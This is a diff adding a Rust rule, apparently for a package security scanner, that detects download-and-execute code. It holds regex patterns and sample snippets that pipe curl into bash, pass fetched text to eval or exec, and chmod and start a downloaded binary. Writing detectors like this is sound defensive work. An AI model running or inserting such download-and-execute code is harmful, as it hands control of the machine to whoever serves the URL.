@@ -1,0 +1,224 @@
+//! `AS504` download-and-execute: fetching a script or binary and running it — `curl … |
+//! sh` in a command, remote text handed to `eval`/`exec`, or a download written to disk,
+//! made executable and started.
+
+use std::sync::LazyLock;
+
+use aho_corasick::AhoCorasick;
+use assay_core::{Confidence, Example, Family, Finding, RuleMeta, Severity};
+use regex::Regex;
+
+use crate::code_patterns::CodeText;
+use crate::code_patterns::apis::{EVAL, EXEC, NETWORK};
+use crate::code_patterns::flow::{Derived, assignments};
+use crate::code_patterns::report::{Hit, OutsideProduction, emit};
+use crate::registry::{FileContext, Rule};
+
+/// The rule.
+pub struct DownloadAndExecute;
+
+static META: RuleMeta = RuleMeta {
+    id: "AS504",
+    name: "download-and-execute",
+    title: "Downloads code and runs it",
+    family: Family::Malicious,
+    severity: Severity::Critical,
+    cwe: &[494, 829],
+    owasp_mcp: "MCP04:2025",
+    cvss_vector: "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:P/VC:H/VI:H/VA:N/SC:H/SI:H/SA:N",
+    summary: "Finds code that runs what it downloads: shell commands piping `curl`/`wget` \
+        into `sh`/`bash`/`python`/`node` or `bash -c \"$(curl …)\"` and PowerShell \
+        `iex (iwr …)` passed to a process API; HTTP responses (`fetch`, `requests.get`, \
+        `urlopen`, `http.Get`) reaching `eval`/`Function`/`exec`/`compile`, or a shell \
+        interpreter, directly or through local variables; and a download followed, within \
+        a few dozen lines, by `chmod +x`/`0755` and a process start. A download checked \
+        against a hash or signature before it runs is reported at medium severity.",
+    why: "Whatever the remote host serves at run time is executed with the user's rights: \
+        the package's reviewed content says nothing about it, and whoever controls the \
+        URL (or the network path) controls the machine.",
+    remediation: "Ship the code in the package, or install tools through a package manager \
+        with pinned versions. If a binary must be downloaded, pin its version and verify \
+        a SHA-256 digest or signature shipped in the package before running it.",
+    references: &[
+        "https://attack.mitre.org/techniques/T1105/",
+        "https://cwe.mitre.org/data/definitions/494.html",
+    ],
+    examples: &[
+        Example::flags(
+            "src/setup.js",
+            "const { execSync } = require(\"child_process\");\n\nexecSync(\"curl -fsSL https://get.example.dev/install.sh | bash\", { stdio: \"inherit\" });\n",
+        ),
+        Example::flags(
+            "server.py",
+            "import requests\n\n\ndef bootstrap():\n    code = requests.get(\"https://cdn.example.net/plugin.py\", timeout=5).text\n    exec(code)\n",
+        ),
+        Example::flags(
+            "main.go",
+            "package main\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc update() error {\n\tresp, err := http.Get(\"https://releases.example.com/agent-linux-amd64\")\n\tif err != nil {\n\t\treturn err\n\t}\n\tdefer resp.Body.Close()\n\tf, _ := os.Create(\"/tmp/agent\")\n\tio.Copy(f, resp.Body)\n\tf.Close()\n\tos.Chmod(\"/tmp/agent\", 0o755)\n\treturn exec.Command(\"/tmp/agent\").Start()\n}\n",
+        ),
+        Example::flags(
+            "lib/loader.ts",
+            "export async function load(url: string) {\n  const res = await fetch(url);\n  const src = await res.text();\n  return eval(src);\n}\n",
+        ),
+        Example::allows(
+            "src/tools.js",
+            "const { execFile } = require(\"child_process\");\n\nasync function status() {\n  const res = await fetch(\"https://status.example.com/api\");\n  const data = await res.json();\n  execFile(\"git\", [\"status\"]);\n  return data;\n}\n",
+        ),
+        Example::allows(
+            "server.py",
+            "import subprocess\n\nimport requests\n\n\ndef get_readme(url: str) -> str:\n    return requests.get(url, timeout=5).text\n\n\ndef run_tests() -> int:\n    return subprocess.run([\"pytest\", \"-q\"]).returncode\n",
+        ),
+        Example::allows(
+            "docs.go",
+            "package main\n\n// Install: curl -fsSL https://example.com/install.sh | sh\nconst help = \"see the README for installation\"\n\nfunc main() { println(help) }\n",
+        ),
+    ],
+};
+
+static PREFILTER: LazyLock<AhoCorasick> = LazyLock::new(|| {
+    AhoCorasick::new([
+        "curl",
+        "wget",
+        "iwr",
+        "Invoke-WebRequest",
+        "DownloadString",
+        "fetch",
+        "requests.",
+        "httpx.",
+        "urlopen",
+        "urlretrieve",
+        "http.Get",
+        "axios",
+        "https.get",
+        "http.get",
+        "got(",
+    ])
+    .expect("valid patterns")
+});
+
+/// Shell one-liners that run what they download.
+static PIPE_TO_SHELL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?i)\b(?:curl|wget)\b[^|;&\n]{0,300}\|\s*(?:sudo\s+(?:-\w+\s+)*)?(?:ba|z|da|k)?sh\b|\b(?:curl|wget)\b[^|;&\n]{0,300}\|\s*(?:sudo\s+)?(?:python3?|node|perl|ruby)\b|\b(?:ba|z)?sh\s+-c\s+\\?['\x22]?\$\(\s*(?:curl|wget)\b|\biex\b[^\n]{0,200}(?:DownloadString|\biwr\b|Invoke-WebRequest)|(?:DownloadString|\biwr\b|Invoke-WebRequest)[^\n]{0,200}\|\s*iex\b",
+    )
+    .expect("valid regex")
+});
+
+/// Making a file executable.
+static CHMOD_EXEC: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\bchmod\w*\s*\([^)]*(?:0o?[75][0-7]{2}\b|\b493\b|\b0?755\b|S_IX|S_IEXEC|\+x)|\bchmod\s+(?:[ugoa]*\+x|[75][0-7]{2})\b|\bos\.Chmod\([^)]*0o?7[0-7]{2}")
+        .expect("valid regex")
+});
+
+/// Integrity checks that make a download trustworthy.
+static INTEGRITY: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)sha256|sha512|createHash|hashlib|checksum|digest|signature|\bgpg\b|cosign|minisign|verify")
+        .expect("valid regex")
+});
+
+/// Interpreters that run text handed to them.
+static INTERPRETER: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"['"](?:/bin/|/usr/bin/)?(?:ba|z|da)?sh['"]|['"](?:python3?|node|perl|ruby|powershell|pwsh|cmd(?:\.exe)?)['"]|shell\s*[:=]\s*(?:true|True)"#)
+        .expect("valid regex")
+});
+
+/// Lines between a download and the start of what it fetched.
+const STAGE_LINES: usize = 40;
+
+impl Rule for DownloadAndExecute {
+    fn meta(&self) -> &'static RuleMeta {
+        &META
+    }
+
+    fn check_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
+        if !PREFILTER.is_match(file.text) {
+            return;
+        }
+        let Some(code) = CodeText::new(file.text, file.language) else {
+            return;
+        };
+        let mut hits = Vec::new();
+        let exec_calls: Vec<_> = EXEC.calls(&code).collect();
+        let eval_calls: Vec<_> = EVAL.calls(&code).collect();
+        if exec_calls.is_empty() && eval_calls.is_empty() {
+            return;
+        }
+        // 1. `curl … | sh` handed to a process API.
+        for call in &exec_calls {
+            for s in code.strings_in(call.args.clone()) {
+                if let Some(m) = PIPE_TO_SHELL.find(code.string_body(s.clone())) {
+                    hits.push(Hit::new(&META, call.callee.start, call.args.end + 1, format!("runs the shell pipeline `{}`, which executes whatever the server returns", m.as_str())));
+                }
+            }
+        }
+        // 2. Remote text reaching code evaluation or a shell interpreter.
+        let assigns = assignments(&code);
+        let remote = Derived::compute(
+            &code,
+            &assigns,
+            |rhs| NETWORK.matches(code.language, rhs),
+            |_| false,
+        );
+        for call in eval_calls {
+            let args = call.args.clone();
+            let via = if NETWORK.matches(code.language, &code.code[args.clone()]) {
+                Some("an HTTP response".to_string())
+            } else {
+                remote
+                    .mentioned(&code, args.clone())
+                    .map(|v| format!("`{v}`, downloaded"))
+            };
+            if let Some(via) = via {
+                hits.push(Hit::new(
+                    &META,
+                    call.callee.start,
+                    args.end + 1,
+                    format!("`{}` evaluates {via}", &code.code[call.callee.clone()]),
+                ));
+            }
+        }
+        for call in &exec_calls {
+            let args = call.args.clone();
+            if let Some(v) = remote.mentioned(&code, args.clone())
+                && INTERPRETER.is_match(&code.code[args.clone()])
+            {
+                hits.push(Hit::new(
+                    &META,
+                    call.callee.start,
+                    args.end + 1,
+                    format!("a shell or interpreter runs `{v}`, which was downloaded"),
+                ));
+            }
+        }
+        // 3. Download, chmod +x, start.
+        for call in NETWORK.calls(&code) {
+            let window = call.callee.start..code.lines_after(call.callee.start, STAGE_LINES);
+            let Some(chmod) = CHMOD_EXEC.find(&code.code[window.clone()]) else {
+                continue;
+            };
+            let chmod_at = window.start + chmod.start();
+            let Some(start) = exec_calls
+                .iter()
+                .find(|c| c.callee.start > chmod_at && c.callee.start < window.end)
+            else {
+                continue;
+            };
+            let span = call.callee.start..start.args.end + 1;
+            let hit = Hit::new(
+                &META,
+                start.callee.start,
+                start.args.end + 1,
+                "a downloaded file is made executable and started",
+            );
+            hits.push(if INTEGRITY.is_match(&code.code[span]) {
+                Hit {
+                    message: "a downloaded file is made executable and started (after an integrity check)".to_string(),
+                    ..hit.severity(Severity::Medium).confidence(Confidence::Medium)
+                }
+            } else {
+                hit.severity(Severity::High)
+            });
+        }
+        emit(&META, file, hits, OutsideProduction::OneStepLower, out);
+    }
+}
